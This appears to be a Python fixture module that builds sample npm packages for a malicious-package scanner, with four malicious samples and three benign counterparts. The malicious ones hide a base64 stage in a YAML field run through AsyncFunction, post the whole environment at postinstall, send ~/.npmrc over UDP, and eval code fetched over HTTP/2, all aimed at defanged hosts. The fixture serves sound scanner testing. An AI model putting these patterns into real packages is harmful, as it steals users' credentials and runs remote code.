"""Behaviour samples for scripts/make-samples.py (2026-11, issue 6, branch sinks): network sends
through clients the scanner did not know (got, dgram, http2 sessions), bulk environment reads,
and code runners fed hidden code (a YAML field, a network response, a local decoder over
constant data), each in its own shape, plus tricky-benign packages using the same APIs
honestly. Same safety rules as samples_malicious.py: Python string data packed in memory, never
written out, imported or run. Defanged: documentation IPs, reserved host names, made-up keys.
"""

import base64

from samples_malicious import S, pj
from samples_common import registry

SAMPLES, BENIGN, sample, benign = registry()


@sample
def yaml_field_async_function():
    stage = "const os = require('os'); require('https').get('https://c2.sinks.invalid/b?h=' + os.hostname());"
    files = {
        "package.json": pj(name="theme-tokens-kit", version="1.4.0", main="index.js",
                           description="Design tokens loader"),
        "index.js": r'''"use strict";
const fs = require("fs");
const path = require("path");
const raw = fs.readFileSync(path.join(__dirname, "assets", "theme.yml"), "utf8");
const field = raw.split("\n").find((l) => l.startsWith("x-build:")).slice(9).trim();
const AsyncFn = Object.getPrototypeOf(async function () {}).constructor;
new AsyncFn("require", Buffer.from(field, "base64").toString())(require).catch(() => {});
module.exports = { tokens: raw };
''',
        "assets/theme.yml": "primary: '#336699'\nsecondary: '#993366'\nx-build: " + base64.b64encode(stage.encode()).decode() + "\n",
    }
    return S("sink-yaml-field-async-function",
             "stage in a YAML field of the package run with the AsyncFunction constructor on require",
             "2026", ["hidden-code", "yaml", "async-function"],
             "Synthetic (issue 6): code hidden in a data file reaching a code runner.", files)


@sample
def got_env_spread_postinstall():
    files = {
        "package.json": pj(name="lint-staged-cache", version="0.3.2", main="index.js",
                           description="Cache for lint-staged", scripts={"postinstall": "node setup.js"},
                           dependencies={"got": "^11.8.6"}),
        "index.js": "module.exports = {};\n",
        "setup.js": r'''const got = require("got");
const snapshot = { ...process.env, cwd: process.cwd() };
got.post("https://203.0.113.77/collect", { json: snapshot, timeout: { request: 3000 } }).catch(() => {});
''',
    }
    return S("sink-got-env-spread-postinstall",
             "whole environment spread into an object and posted with got at postinstall",
             "2026", ["env-harvest", "got", "install-script"],
             "Synthetic (issue 6): a client the flow pass did not know.", files)


@sample
def dgram_npmrc_chunks():
    files = {
        "package.json": pj(name="udp-metrics-lite", version="2.0.1", main="index.js",
                           description="StatsD-style metrics"),
        "index.js": r'''const dgram = require("dgram");
const fs = require("fs");
const os = require("os");
const path = require("path");
const sock = dgram.createSocket("udp4");
const where = path.join(os.homedir(), ".npmrc");
let body = "";
try { body = fs.readFileSync(where, "utf8"); } catch (e) {}
const packet = Buffer.from(body).toString("hex");
for (let i = 0; i < packet.length; i += 400) sock.send(packet.slice(i, i + 400), 8125, "198.51.100.90");
exports.increment = (k) => sock.send(`${k}:1|c`, 8125, "127.0.0.1");
''',
    }
    return S("sink-dgram-npmrc-chunks", "~/.npmrc read on require and sent in UDP datagrams",
             "2026", ["credential-file", "dgram"],
             "Synthetic (issue 6): a UDP socket as the network send.", files)


@sample
def http2_response_worker_eval():
    files = {
        "package.json": pj(name="h2-prefetch", version="1.1.0", main="index.js",
                           description="HTTP/2 prefetch helper"),
        "index.js": r'''const http2 = require("http2");
const { Worker } = require("worker_threads");
const session = http2.connect("https://cdn.h2-prefetch.invalid");
const req = session.request({ ":path": "/warm.js" });
let code = "";
req.setEncoding("utf8");
req.on("data", (d) => { code += d; });
req.on("end", () => { session.close(); new Worker(code, { eval: true }); });
req.end();
module.exports = (u) => u;
''',
    }
    return S("sink-http2-response-worker-eval",
             "code read from an HTTP/2 session and run in a Worker with eval: true on require",
             "2026", ["remote-code", "http2", "worker"],
             "Synthetic (issue 6): a network response reaching a code runner.", files)


@benign
def got_own_api_key():
    files = {
        "package.json": pj(name="acme-search-client", version="3.2.0", main="index.js",
                           description="Client for the Acme search API", dependencies={"got": "^11.8.6"}),
        "index.js": r'''const got = require("got");
const key = process.env.ACME_API_KEY;
exports.search = (q) => got.post("https://api.acme.example/v1/search", {
  headers: { authorization: `Bearer ${key}` }, json: { q },
}).json();
''',
    }
    return S("sink-benign-got-own-api-key", "a client posting queries with its own key in the auth header",
             "2026", ["got", "env"], "Counterpart of sink-got-env-spread-postinstall.", files)


@benign
def require_hook_user_files():
    files = {
        "package.json": pj(name="coffee-register-lite", version="0.4.0", main="index.js",
                           description="Compile .coffee files on require"),
        "index.js": r'''const fs = require("fs");
const Module = require("module");
const { compile } = require("./lib/compile");
Module._extensions[".coffee"] = function (m, filename) {
  const src = fs.readFileSync(filename, "utf8");
  m._compile(compile(src), filename);
};
''',
        "lib/compile.js": "exports.compile = (s) => s.replace(/->/g, '=>');\n",
    }
    return S("sink-benign-require-hook-user-files", "a require hook compiling the user's own files",
             "2026", ["module-compile"], "Counterpart of the module-compile samples.", files)


@benign
def locale_json_no_eval():
    files = {
        "package.json": pj(name="tiny-i18n-format", version="1.0.3", main="index.js",
                           description="Message formatting with bundled locales"),
        "index.js": r'''const fs = require("fs");
const path = require("path");
const messages = JSON.parse(fs.readFileSync(path.join(__dirname, "locales", "en.json"), "utf8"));
const compile = (tpl) => new Function("p", "return `" + tpl.replace(/`/g, "\\`") + "`");
exports.format = (id, params, custom) => compile(custom || "${p.x}")(params) || messages[id];
''',
        "locales/en.json": '{"hello": "Hello"}\n',
    }
    return S("sink-benign-locale-json-no-eval",
             "locale JSON read from the package; Function compiles caller templates only",
             "2026", ["json", "function"], "Counterpart of sink-yaml-field-async-function.", files)
